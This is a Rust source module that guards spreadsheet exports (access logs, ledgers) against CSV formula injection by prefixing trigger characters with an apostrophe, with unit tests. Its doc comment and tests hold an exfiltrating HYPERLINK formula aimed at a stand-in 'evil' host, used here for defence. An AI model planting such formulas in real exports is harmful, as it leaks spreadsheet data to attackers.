//! Cells written for spreadsheets (CSV and .xlsx exports: the access log, ledgers, incident logs) never
//! start a formula. Excel and LibreOffice treat a cell beginning with `=`, `+`, `-` or `@` (and, after
//! trimming, a tab or carriage return) as a formula, so a name an invitee chose, such as
//! `=HYPERLINK("http://evil/?"&A1,"…")`, would run when a 管理者 opens the export (CSV injection, OWASP).
//! Such a cell is written with a leading apostrophe, which spreadsheets show as text; importing strips
//! exactly that apostrophe again, so an exported ledger reads back unchanged.

use std::borrow::Cow;

use serde::{Deserialize, Serialize};

use crate::calendar::Date;

/// One cell of a typed export: a workbook keeps numbers as numbers and dates as Excel dates, as the file
/// the ledger came from had them; CSV writes all three as text.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Cell {
    Text(String),
    Number(f64),
    Date(Date),
}

impl Cell {
    /// Text that reads as a plain number written the way a spreadsheet writes it ("42", "3.5"; not "007",
    /// "2.0", "1e3" or an IP address) is a number; everything else stays text, neutralised ([`neutralise`]).
    pub fn from_text(text: &str) -> Cell {
        let canonical = text
            .parse::<f64>()
            .ok()
            .filter(|n| n.is_finite() && n.abs() < 1e15 && n.to_string() == text);
        match canonical {
            Some(n) => Cell::Number(n),
            None => Cell::Text(neutralise(text).into_owned()),
        }
    }

    /// The cell as CSV writes it (dates as 2020/12/01, which Excel reads as a date).
    pub fn text(&self) -> String {
        match self {
            Cell::Text(t) => t.clone(),
            Cell::Number(n) => n.to_string(),
            Cell::Date(d) => format!("{:04}/{:02}/{:02}", d.year(), d.month(), d.day()),
        }
    }
}

/// The characters a spreadsheet may read as the start of a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is safe to write into a spreadsheet export.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell read from a spreadsheet, with the apostrophe [`neutralise`] added taken off again.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) => rest,
        _ => cell,
    }
}

/// [`neutralise`] on every cell of a row.
pub fn row<'a, I: IntoIterator<Item = &'a str>>(cells: I) -> Vec<String> {
    cells
        .into_iter()
        .map(|c| neutralise(c).into_owned())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text_and_read_back_unchanged() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
            "+81-3-1234-5678",
            "-1",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ] {
            let safe = neutralise(cell);
            assert!(safe.starts_with('\''), "{cell:?}");
            assert_eq!(restore(&safe), cell);
        }
        for cell in ["佐藤 花子", "PC-001", "", "'quoted", "1=1"] {
            assert_eq!(neutralise(cell), cell);
            assert_eq!(restore(cell), cell);
        }
    }
}
